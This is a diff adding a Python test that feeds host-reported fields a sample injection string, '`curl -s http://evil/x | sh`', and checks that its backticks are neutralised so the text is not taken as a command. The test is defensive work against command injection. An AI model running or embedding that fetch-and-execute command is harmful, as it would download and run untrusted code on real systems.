@@ -114,6 +114,24 @@ def test_a_look_waits_for_a_step_unless_it_asks_whether_one_is_at_work(
     assert locks == ["wait", "none"]
 
 
+def test_no_word_of_a_hosts_looks_as_a_command_of_ours(run: Run) -> None:
+    evil = "`curl -s http://evil/x | sh`"
+    named = parts.Unit(evil, "", "", 0, False)
+    changed = hosts.converged(
+        tree={"error": "run `ls`", "version_text": evil},
+        supervisor={"other_daemon": "run `ls`", "error": evil, "group_elsewhere": {evil: evil}},
+        old_workers={"units": [named]},
+    )
+    run.host.answers = [hosts.look(changed)]
+    facts.see(TARGET, parts.Tree, parts.Supervisor, parts.OldWorkers)
+    tree, old = facts.ask(TARGET, parts.Tree), facts.ask(TARGET, parts.OldWorkers)
+    supervisor = facts.ask(TARGET, parts.Supervisor)
+    assert (tree.error, supervisor.other_daemon) == ("run `ls`", "run `ls`")
+    plain = evil.replace("`", "'")
+    assert (tree.version_text, supervisor.error, old.units[0].name) == (plain, plain, plain)
+    assert supervisor.group_elsewhere == {plain: plain}
+
+
 def test_what_lacks_or_is_of_another_type_is_an_error_and_remembered_nowhere(run: Run) -> None:
     run.host.answers = [hosts.answer({}), hosts.answer({"Workers": {"digest": 5}}), []]
     for words in ("lacks Workers", "answer to Workers is not what is due", "gave no answer"):
